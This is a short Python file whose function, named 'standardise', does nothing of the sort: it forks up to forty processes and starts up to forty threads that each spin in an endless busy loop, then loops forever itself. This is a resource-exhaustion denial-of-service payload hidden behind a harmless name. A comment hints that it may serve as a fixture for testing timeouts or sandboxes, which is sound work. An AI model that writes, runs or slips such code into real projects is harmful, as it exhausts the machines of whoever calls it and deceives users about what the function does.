"""Spins in as many processes and threads as it may start, at the highest priority it gets, until it is stopped."""

import os
import threading

# reads "This took more than 2 s."


def spin():
    while True:
        pass


def standardise(x):
    for _ in range(40):
        try:
            if os.fork() == 0:
                spin()
        except OSError:
            break
    for _ in range(40):
        try:
            threading.Thread(target=spin, daemon=True).start()
        except (RuntimeError, OSError):
            break
    spin()
